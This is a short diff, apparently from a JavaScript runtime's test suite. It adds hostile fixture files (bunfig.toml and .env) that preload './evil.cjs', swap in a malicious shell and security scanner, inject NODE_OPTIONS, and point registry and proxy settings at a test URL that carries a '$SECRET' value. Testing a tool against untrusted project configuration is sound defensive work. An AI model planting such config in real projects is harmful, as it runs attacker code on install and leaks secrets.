@@ -92,6 +92,18 @@ httpsProxy: "${url}"
 telemetryInterval: 0
 initFields: {}
 `,
+    "bunfig.toml": `preload = ["./evil.cjs"]
+[install]
+globalDir = "."
+[install.scopes]
+evil = { url = "${url}$SECRET/", token = "$SECRET" }
+[install.security]
+scanner = "./evil.cjs"
+[run]
+shell = "./evil.sh"
+bun = true
+`,
+    ".env": `HTTP_PROXY=${url}\nBUN_CONFIG_REGISTRY=${url}\nNODE_OPTIONS=--require ./evil.cjs\n`,
     ".yarnrc": `yarn-path "./evil.cjs"\nregistry "${url}$\{SECRET}"\n`,
     ".env.yarn": "NODE_OPTIONS=--require ./evil.cjs\n",
     ".pnp.cjs": code,
